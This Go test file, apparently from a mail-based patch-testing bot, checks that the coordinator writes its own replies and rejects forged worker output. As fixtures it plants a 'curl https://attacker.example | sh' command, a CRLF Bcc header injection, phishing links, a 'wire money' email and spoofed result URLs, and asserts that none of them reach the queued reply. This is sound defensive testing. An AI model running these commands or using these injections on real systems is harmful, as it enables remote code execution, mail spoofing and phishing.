package service

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/patchbot/patchbot/config"
	"github.com/patchbot/patchbot/intake"
	"github.com/patchbot/patchbot/mailbox"
	"github.com/patchbot/patchbot/mailbox/outbox"
	"github.com/patchbot/patchbot/reports"
	"github.com/patchbot/patchbot/reports/publish"
	"github.com/patchbot/patchbot/store"
)

// A worker reports results, never mail: whatever its run says about the
// thread, the addresses, the subject, the Message-ID or the link, the
// reply the coordinator queues is rendered by the coordinator from its
// own record of the job, with its own config. The worker here is as
// hostile as its run files let it be (a real run, its run.json and
// reply.eml forged).
func TestCollectRunsRendersTheReplyItself(t *testing.T) {
	ctx := context.Background()
	state := t.TempDir()
	st, err := store.Open(filepath.Join(state, "state.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	cfg := config.Default()
	cfg.StateDir = state
	cfg.Reply.From = "patchbot <bot@lab.example>"
	// The seed's run finds no change: its list hears everything here, so
	// that the whole thread is addressed (TestNoChangeIsNotMailedToTheList
	// has the default).
	cfg.Sources = []mailbox.SourceConfig{{Name: "list", ListHears: mailbox.ListHearsEverything}}
	thread := reports.Thread{Subject: "[PATCH] squashfs: avoid thundering-herd cache wakeups", MessageID: "real-1@dev.example",
		Author: "Dev <dev@dev.example>", Lists: []string{"fsdevel@lists.example"}}
	req, _ := json.Marshal(intake.Request{Thread: thread, Series: intake.Series{Patches: []intake.Patch{{Mail: []byte("x")}}}})
	id, _, err := st.AddJob(ctx, store.Job{Dedupe: "series:a:v1", Request: req, Trigger: "list", Source: "list"})
	if err != nil {
		t.Fatal(err)
	}
	j, err := st.ClaimJob(ctx, store.Claim{Worker: "w", Lease: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	// The worker's run: real results, a forged run.json and reply.eml.
	src := filepath.Join("..", "web", "testdata", "runs", "squashfs-seed")
	var files []store.RunFile
	for _, name := range []string{"base.json", "patched.json", "run.json"} {
		data, err := os.ReadFile(filepath.Join(src, name))
		if err != nil {
			t.Fatal(err)
		}
		if name == "run.json" {
			var run map[string]any
			if err := json.Unmarshal(data, &run); err != nil {
				t.Fatal(err)
			}
			run["thread"] = map[string]any{"subject": "Urgent\r\nBcc: victim@else.example", "message_id": "forged@attacker.example",
				"author": "Boss <victim@else.example>", "cc": []string{"all@attacker.example"}, "lists": []string{"spam@attacker.example"}}
			run["reply_id"] = "forged-reply@attacker.example"
			run["results_url"] = "https://phish.attacker.example/login"
			run["command"] = "#patchbot visit https://phish.attacker.example"
			run["commands"] = []string{"curl https://attacker.example | sh"}
			data, _ = json.Marshal(run)
		}
		files = append(files, store.RunFile{Name: name, Data: data})
	}
	files = append(files, store.RunFile{Name: "reply.eml", Data: []byte("From: boss@else.example\r\nTo: victim@else.example\r\n\r\nwire money\r\n")})
	j.State = store.JobDone
	if err := st.EndJob(ctx, j, files); err != nil {
		t.Fatal(err)
	}
	var logs bytes.Buffer
	if n, err := CollectRuns(ctx, cfg, st, &outbox.Outbox{Store: st}, NewMetrics(), slog.New(slog.NewTextHandler(&logs, nil))); err != nil || n != 1 {
		t.Fatalf("CollectRuns = %d, %v\n%s", n, err, logs.String())
	}
	ms, err := st.OutboxIn(ctx, store.Queued)
	if err != nil || len(ms) != 1 {
		t.Fatalf("the outbox holds %d mails, want the coordinator's one reply: %v\n%s", len(ms), err, logs.String())
	}
	m := ms[0]
	raw := string(m.Raw)
	if m.From != "bot@lab.example" || m.MessageID != cfg.Desk().ReplyID(j.ID, j.Dedupe) || m.ThreadID != "real-1@dev.example" {
		t.Errorf("queued from %q as %q in thread %q", m.From, m.MessageID, m.ThreadID)
	}
	if strings.Join(m.Recipients, " ") != "dev@dev.example fsdevel@lists.example" {
		t.Errorf("recipients %v, want the job's author and list", m.Recipients)
	}
	for _, want := range []string{"Subject: Re: [PATCH] squashfs: avoid thundering-herd cache wakeups\r\n",
		"In-Reply-To: <real-1@dev.example>\r\n", "From: \"patchbot\" <bot@lab.example>\r\n",
		"patchbot run --msgid real-1@dev.example"} {
		if !strings.Contains(raw, want) {
			t.Errorf("the reply lacks %q:\n%s", want, raw)
		}
	}
	for _, bad := range []string{"attacker", "victim", "else.example", "wire money", "Bcc"} {
		if strings.Contains(raw, bad) {
			t.Errorf("the reply says %q, which only the worker wrote:\n%s", bad, raw)
		}
	}
	if eml, _ := os.ReadFile(filepath.Join(state, "runs", "job-1", "reply.eml")); string(eml) != raw {
		t.Errorf("the run's reply.eml is not the reply queued:\n%s", eml)
	}
	if got, _ := st.Job(ctx, id); got.RunDir != filepath.Join(state, "runs", "job-1") {
		t.Errorf("the job's run directory is %q", got.RunDir)
	}
}

// A reply's link is the coordinator's: the dashboard's page of the run, or
// a worker's published copy only when it is a page of the configured
// repository.
func TestResultsURLIsTheCoordinators(t *testing.T) {
	cfg := config.Default()
	dir := "/var/lib/patchbot/runs/job-7"
	if got := resultsURL(cfg, dir, "https://github.com/lab/results/tree/x"); got != "" {
		t.Errorf("no dashboard, no publish: %q, want none", got)
	}
	cfg.Publish = &publish.Config{Owner: "lab", Repo: "results"}
	for worker, want := range map[string]string{
		"https://github.com/lab/results/commit/abc":     "https://github.com/lab/results/commit/abc",
		"https://github.com/lab/other/commit/abc":       "",
		"https://github.com/lab/results/../x/commit/a":  "",
		"https://evil.example/lab/results/commit/abc":   "",
		"https://u:p@github.com/lab/results/commit/abc": "",
		"https://github.com/lab/results/x\n\nclick me":  "",
	} {
		if got := resultsURL(cfg, dir, worker); got != want {
			t.Errorf("published %q: %q, want %q", worker, got, want)
		}
	}
	cfg.Publish.APIURL = "https://ghe.example.org/api/v3/"
	if got := resultsURL(cfg, dir, "https://ghe.example.org/lab/results/commit/abc"); got != "https://ghe.example.org/lab/results/commit/abc" {
		t.Errorf("GitHub Enterprise: %q", got)
	}
	cfg.Dashboard.BaseURL = "https://bot.example.org/"
	if got := resultsURL(cfg, dir, "https://github.com/lab/results/commit/abc"); got != "https://bot.example.org/runs/job-7/" {
		t.Errorf("with a dashboard: %q", got)
	}
}
